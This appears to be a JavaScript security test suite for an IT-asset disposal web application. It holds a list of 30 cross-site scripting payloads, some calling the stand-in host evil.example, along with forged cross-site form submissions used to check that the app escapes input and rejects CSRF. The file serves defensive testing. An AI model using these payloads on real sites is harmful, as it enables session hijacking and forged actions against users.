// Text that wants to be a program, in every field that takes text, and then every page; and forms that other sites send.
import assert from "node:assert/strict";
import { createServer, request } from "node:http";
import { opened, parties, read, released, say, subject, link } from "./pallet.mjs";
import { browser, district, enter, play, scene, visitor } from "./stage.mjs";
import { visits } from "./visits.mjs";

/// Whether each address is tried in every way, or one after the other in one.
const EVERY_WAY = process.env.QUITTANCE_TEST_EVERY_WAY === "yes";

/// Each is at most 64 characters, as the shortest field allows; whichever runs calls alert, or asks another host, or leaves something in the page.
const PAYLOADS = [
  "<script>alert(1)</script>",
  '"><script>alert(2)</script>',
  "'><script>alert(3)</script>",
  "<img src=x onerror=alert(4)>",
  '"><img src=x onerror=alert(5)>',
  "'><img src=x onerror=alert(6)>",
  "<svg onload=alert(7)>",
  '"><svg/onload=alert(8)>',
  "<iframe src=javascript:alert(9)></iframe>",
  "javascript:alert(10)",
  '" onmouseover="alert(11)',
  "' autofocus onfocus='alert(12)",
  '" autofocus onfocus=alert(13) x="',
  "</title><script>alert(14)</script>",
  "</textarea><script>alert(15)</script>",
  "</select><img src=x onerror=alert(16)>",
  "</style><script>alert(17)</script>",
  "--><script>alert(18)</script>",
  "]]><script>alert(19)</script>",
  "{{7*7}}${alert(20)}#{alert(20)}<%=alert(20)%>",
  "<a href=javascript:alert(21)>x</a>",
  "<form action=//evil.example><button autofocus>x22",
  "<base href=//evil.example/23/>",
  '<meta http-equiv=refresh content="0;url=//evil.example/24">',
  "<style>*{background:url(//evil.example/25)}</style>",
  "<link rel=stylesheet href=//evil.example/26>",
  "<details open ontoggle=alert(27)>",
  "<input autofocus onfocus=alert(28)>",
  "<math><mtext></p><img src=x onerror=alert(29)>",
  "<script src=//evil.example/30></script>",
];

/// The first so many are sent along with an address and the page is opened; what comes back for the others is read, and not opened.
const VISITED = 3;

/// What no page has, unless text has become a part of it.
function planted(html) {
  const page = html === undefined ? document : new DOMParser().parseFromString(html, "text/html");
  const foreign = [...page.querySelectorAll("iframe, object, embed, base, math, style, meta[http-equiv], form[action*='//evil'], link[href*='//evil'], script[src*='//evil']")];
  const armed = [...page.querySelectorAll("*")].filter((one) => [...one.attributes].some((attribute) => /^on/i.test(attribute.name) || /^\s*javascript:/i.test(attribute.value)));
  // What people may have typed stands in a field's value.
  const harmless = (one) => one.matches("input, option, textarea") && ![...one.attributes].some((attribute) => /^on/i.test(attribute.name));
  return [...foreign, ...armed.filter((one) => !harmless(one))].map((one) => one.outerHTML.slice(0, 120));
}

/// Says it, or is refused for what it says: a field that does not take such text is no way in.
async function plant(stage, who, path, body) {
  const answer = await stage.api(stage.people[who].token, "POST", path, body);
  if (answer.status >= 500) throw new Error(`${path}: ${answer.status} ${answer.text}`);
  return answer.status === 200 || answer.status === 201 ? answer.json : null;
}

/// Puts each payload into every field; gives the pages on which they have to be seen as text: [path, who, text].
async function sow(stage) {
  const seen = [];
  const { own, vendor } = await parties(stage);
  const command = (who, name, body) => plant(stage, who, `/api/v1/commands/${name}`, body);
  const rejected = ["repair", "redeploy", "resale", "donation", "parts"].map((rung) => ({ rung, reason: "uneconomic" }));
  for (const [at, text] of PAYLOADS.entries()) {
    const party = await command("administrator", "register_party", { kind: "vendor", name: text, sites: [text] });
    assert.ok(party, `a vendor's name may be ${text}`);
    const id = subject(party, "Party");
    await command("administrator", "record_credential", { party: id, site: text, scheme: "r2v3", number: text, issued_on: "2020-01-01", expires_on: "2100-01-01", scope: ["materials_recovery"] });
    await command("administrator", "record_contract", { party: id, reference: text, starts_on: "2020-01-01", confidentiality: true });
    seen.push([`/vendors/${id}`, "administrator", text]);
    const device = { tag: text, serial: `${text}`, category: "laptop", manufacturer: text, model: text, site: own.sites[0], sensitivity: "moderate" };
    const registered = await command("coordinator", "register_asset", { ...device, media: [{ serial: `M${text}`.slice(0, 64), media_type: "ssd_nvme" }] });
    assert.ok(registered, `a tag may be ${text}`);
    const asset = subject(registered, "Asset");
    await command("coordinator", "report_missing", { asset, loss: "lost", custodian: "cart", incident: text });
    seen.push([`/assets/${asset}`, "auditor", text]);
    const open = await command("coordinator", "open_consignment", { reference: text, from_site: own.sites[0], to: id, to_site: text, carrier: text });
    assert.ok(open, `a reference may be ${text}`);
    const consignment = subject(open, "Consignment");
    const box = { consignment, label: text, seal: text, gross_weight_grams: 1000 + at };
    await command("coordinator", "record_container", box);
    await command("coordinator", "add_quantity", { consignment, what: "charger", count: 3, no_data: true, container: text });
    seen.push([`/consignments/${consignment}`, "auditor", text]);
  }
  // Scanned by a receiver who found something else, in a list, by the link of somebody without an account, and as the name of a file.
  const pallet = await released(stage, "HOSTILE-1", 1);
  const path = await link(stage, pallet.id);
  for (const [at, text] of PAYLOADS.entries()) {
    const file = new FormData();
    file.append("file", new Blob([`${text} ${at}`]), text);
    await stage.api(null, "POST", `${path}/evidence`, file, { "sec-fetch-site": "same-origin" });
    await plant(stage, "operator", "/api/v1/evidence", `[2026/10/06 13:00:00]    info: nwipe 0.42\n[2026/10/06 13:00:00]  notice: Found /dev/sda,  ATA    , ${text},  256 GB, S/N=${text}\n`);
  }
  seen.push([path, "nobody", pallet.reference]);
  const list = ["tag,serial", ...PAYLOADS.map((text) => `"${text.replaceAll('"', '""')}","${`S${text}`.replaceAll('"', '""')}"`)].join("\n");
  await plant(stage, "operator", `/api/v1/consignments/${pallet.id}/receipts`, list);
  await command("operator", "receive_consignment", { consignment: pallet.id, containers: [], scans: PAYLOADS.map((text) => ({ tag: text, serial: `S${text}`.slice(0, 64) })) });
  seen.push([`/consignments/${pallet.id}`, "approver", "over"]);
  const rows = PAYLOADS.map((text, at) => [`${900 + at}`, text, text, `T${text}`.slice(0, 64), `X${text}`.slice(0, 64), text, text, text, text, text].map((cell) => `"${cell.replaceAll('"', '""')}"`).join(","));
  await stage.api(stage.people.coordinator.token, "POST", "/api/v1/imports?sensitivity=low", `ID,Company,Asset Name,Asset Tag,Serial,Model,Category,Status,Location,Manufacturer\n${rows.join("\n")}\n`, { "content-type": "text/csv" });
  // One goes all the way to a certificate, which names the maker, the model, and the people behind it.
  const [, text] = PAYLOADS;
  const certified = await command("coordinator", "register_asset", { tag: "HOSTILE-C", serial: "SHOSTILE", category: "monitor", manufacturer: text, model: PAYLOADS[4], sensitivity: "low", site: own.sites[0], status: "in_service" });
  const asset = subject(certified, "Asset");
  const open = await command("coordinator", "open_consignment", { reference: `${text} C`, from_site: own.sites[0], to: vendor.id, to_site: vendor.sites[0], carrier: text, presets: { reason: "end_of_life", rung: "recycling", rejected, no_storage: true } });
  const consignment = subject(open, "Consignment");
  await say(stage, "approver", "/api/v1/commands/authorize_consignment", { consignment, reference: text });
  await say(stage, "coordinator", "/api/v1/commands/scan", { consignment, tag: "HOSTILE-C", container: text });
  await say(stage, "coordinator", "/api/v1/commands/seal_consignment", { consignment, containers: [{ label: text, seal: text }] });
  await say(stage, "coordinator", "/api/v1/commands/release_consignment", { consignment, driver: text });
  await say(stage, "operator", "/api/v1/commands/receive_consignment", { consignment, containers: [{ label: text, seal_state: "intact" }], scans: [{ tag: "HOSTILE-C" }] });
  const mass = { weight_grams: 3000, weight_basis: "scale", recovered_grams: 2500, energy_grams: 400, landfill_grams: 100 };
  await say(stage, "operator", "/api/v1/commands/record_disposition", { asset, outcome: "recycled", mass });
  // The directory: who they are, on every page that names somebody.
  const everyone = (await read(stage, "administrator", "/api/v1/people")).people;
  for (const [at, person] of everyone.entries()) {
    const [name, title, phone] = [0, 1, 2].map((part) => PAYLOADS[(3 * at + part) % PAYLOADS.length]);
    await plant(stage, "administrator", `/api/v1/people/${person.id}/corrections`, { name, title, phone });
  }
  const issued = await say(stage, "coordinator", "/api/v1/certificates", { asset });
  const number = issued.number ?? issued.certificate?.number;
  seen.push([`/certificates/${number}`, "nobody", PAYLOADS[4]]);
  assert.equal((await stage.api(null, "GET", `/certificates/${number}.pdf`)).status, 200);
  return seen;
}

/// A page of another site.
function elsewhere() {
  const server = createServer((asked, answer) => answer.setHeader("content-type", "text/html").end("<!doctype html><title>elsewhere</title>"));
  return new Promise((done) => server.listen(0, "127.0.0.1", () => done(server)));
}

/// On that page: sends a form of some type, or a request, with the visitor's cookies.
function send({ to, kind }) {
  if (kind === "fetch") {
    const words = { method: "POST", mode: "no-cors", credentials: "include", body: "{}", headers: { "content-type": "text/plain" } };
    fetch(to, words).catch(() => {});
    return;
  }
  const form = document.body.appendChild(document.createElement("form"));
  Object.assign(form, { method: "post", enctype: kind, action: to });
  const fields = { command: "reopen_exception", reason: "evidence_disputed", scans: "NP-1", seal_state: "intact", name: "x", '{"a': '":1}' };
  for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
  form.submit();
}

/// A request with exactly these headers.
function raw(url, path, headers, body = "") {
  return new Promise((done, failed) => {
    const { hostname, port } = new URL(url);
    const asked = request({ hostname, port, path, method: "POST", headers: { "content-length": Buffer.byteLength(body), ...headers } }, (answer) => {
      answer.resume();
      answer.on("end", () => done(answer.statusCode));
    });
    asked.on("error", failed);
    asked.end(body);
  });
}

await play({
  "hostile text": async () => {
    const stage = await district();
    const seen = await sow(stage);
    const pages = (await visits(stage)).map(({ path, who }) => [path, who, ""]);
    const echoed = [];
    for (const [at, text] of PAYLOADS.entries()) {
      const word = encodeURIComponent(text);
      for (const [path, who] of [
        [`/assets?q=${word}`, "auditor"], [`/assets?tag=${word}`, "auditor"], [`/assets?label=${word}`, "auditor"], [`/assets?after=${word}`, "auditor"],
        [`/assets/${word}`, "auditor"], [`/consignments/${word}`, "auditor"], [`/exceptions?status=${word}`, "auditor"], [`/exceptions/${word}`, "auditor"],
        [`/reports/mass-balance?site=${word}`, "auditor"], [`/reports/mass-balance?from=${word}`, "auditor"], [`/reports/${word}`, "auditor"],
        [`/verify?number=${word}`, "nobody"], [`/sign-in?next=${word}`, "nobody"], [`/certificates/${word}`, "nobody"], [`/r/${word}`, "nobody"], [`/there/${word}`, "nobody"],
      ]) (at < VISITED ? pages : echoed).push([path, who, ""]);
    }
    const started = await browser();
    const wrong = [];
    const all = [...seen, ...pages];
    const look = async (who, part) => {
      const page = await visitor(started, stage);
      if (who !== "nobody") await enter(page, stage, stage.people[who]);
      for (const [path, , text] of part) {
        await page.goto(path, { waitUntil: "domcontentloaded" });
        const found = await page.evaluate(planted, undefined);
        wrong.push(...found.map((one) => `${path}: ${one}`), ...page.faults.splice(0).map((fault) => `${path}: ${fault}`));
        if (text && !(await page.evaluate(() => document.body.innerText)).includes(text)) wrong.push(`${path}: does not show “${text}”`);
      }
      await page.context().close();
    };
    for (const who of new Set(all.map(([, who]) => who))) {
      const part = all.filter((one) => one[1] === who);
      const half = Math.ceil(part.length / 2);
      await Promise.all([look(who, part.slice(0, half)), look(who, part.slice(half))]);
    }
    // A page of nobody's, so that no policy forbids reading what came.
    const reader = await visitor(started, stage);
    for (const [path, who] of echoed) {
      const answer = await stage.api(stage.people[who]?.token, "GET", path, undefined, { accept: "text/html" });
      if (answer.status >= 500) wrong.push(`${path}: ${answer.status}`);
      wrong.push(...(await reader.evaluate(planted, answer.text)).map((one) => `${path}: ${one}`));
    }
    await stage.end();
    if (wrong.length) throw new Error(`${wrong.length} things are wrong:\n  ${wrong.slice(0, 40).join("\n  ")}`);
    return `${PAYLOADS.length} texts, ${all.length} pages opened and ${echoed.length} read, nothing ran`;
  },

  "forms of other sites": async () => {
    const stage = await district();
    const exception = (await read(stage, "auditor", "/api/v1/exceptions?limit=1")).exceptions[0].address.split("/").pop();
    const pallet = await released(stage, "P-OTHER-SITE", 1);
    const secret = (await link(stage, pallet.id)).split("/").pop();
    const fill = (route) => route.replace("/exceptions/{id}", `/exceptions/${exception}`).replace("{secret}", secret).replace("{id}", pallet.id).replace("{name}", "scan").replaceAll(/\{[^}]+\}/g, "1");
    // Doors of programs that use nothing of the visitor's: anyone may have a certificate judged and a broken policy reported, and of a link's address
    // the secret in it is all that counts.
    const open = (route) => ["/policy-reports", "/api/v1/verifications"].includes(route) || route.startsWith("/api/v1/r/");
    const posts = (scene.posts ?? ["/sign-in", "/sign-out", "/exceptions/{id}", "/r/{secret}", "/r/{secret}/evidence"]).filter((route) => !open(route)).map(fill);
    const server = await elsewhere();
    const page = await visitor(await browser(), stage);
    await enter(page, stage, stage.people.approver);
    const before = await stage.entries();
    const wrong = [];
    // What would be recorded if it came from here.
    const person = (await read(stage, "administrator", "/api/v1/people")).people.find((one) => one.role === "approver").id;
    const valid = new URLSearchParams({ command: "assign_exception", person }).toString();
    // One of another site altogether, one of the same site at another port; both with the browser's own marks on what they send.
    const origins = [`http://localhost:${server.address().port}`, `http://127.0.0.1:${server.address().port}`];
    const ways = origins.flatMap((origin) => ["application/x-www-form-urlencoded", "multipart/form-data", "fetch"].map((kind) => [origin, kind]));
    // One guard stands before all doors: each door meets one of the ways in turn, and all of them where there is time.
    for (const [door, post] of posts.entries()) {
      for (const [way, [origin, kind]] of ways.entries()) {
        if (EVERY_WAY || way === door % ways.length) {
          await page.goto(origin);
          const about = (one) => one.url() === stage.url + post && one.method() === "POST";
          // What comes back to a request is kept from the page that sent it; whether it wrote anything is seen at the end.
          const answered = kind === "fetch" ? page.waitForEvent("requestfailed", about) : page.waitForResponse((answer) => about(answer.request()));
          await page.evaluate(send, { to: stage.url + post, kind });
          const answer = await answered;
          if (kind === "fetch") continue;
          // Wherever that leads: the next page is asked for when this one is there.
          await page.waitForURL((url) => url.origin === stage.url, { waitUntil: "load" });
          if (answer.status() < 400) wrong.push(`${post}, sent by ${origin} as ${kind}: ${answer.status()}`);
        }
      }
    }
    // What browsers without such marks send, and what no browser sends.
    const cookie = (await page.context().cookies()).filter((one) => one.httpOnly).map((one) => `${one.name}=${one.value}`).join("; ");
    const form = { "content-type": "application/x-www-form-urlencoded", cookie };
    for (const headers of [{ origin: "https://evil.example" }, { origin: "null" }, { "sec-fetch-site": "cross-site" }, { "sec-fetch-site": "same-site" }, { "sec-fetch-site": "none", origin: "null" }]) {
      for (const post of posts) {
        const status = await raw(stage.url, post, { ...form, ...headers }, post.startsWith("/exceptions/") ? valid : "scans=NP-1&seal_state=intact");
        if (status < 400) wrong.push(`${post} with ${JSON.stringify(headers)}: ${status}`);
      }
    }
    const after = await stage.entries();
    for (let seq = before; seq < after; seq += 1) {
      const entry = await read(stage, "auditor", `/ledger/entries/${seq}`);
      if (entry.actor.role !== "service") wrong.push(`entry ${seq} was written: ${entry.event}`);
    }
    await page.goto("/assets");
    if (!page.url().endsWith("/assets")) wrong.push("the visitor was signed out");
    // That form is good, and taken where it came from a page here.
    const own = await raw(stage.url, `/exceptions/${exception}`, { ...form, "sec-fetch-site": "same-origin" }, valid);
    if (own !== 303) wrong.push(`the form itself is refused: ${own}`);
    server.close();
    await stage.end();
    if (wrong.length) throw new Error(`${wrong.length} things are wrong:\n  ${wrong.join("\n  ")}`);
    return `${posts.length} addresses, ${EVERY_WAY ? "each" : "in turn"} from two origins in three ways, and without a browser's marks`;
  },
});
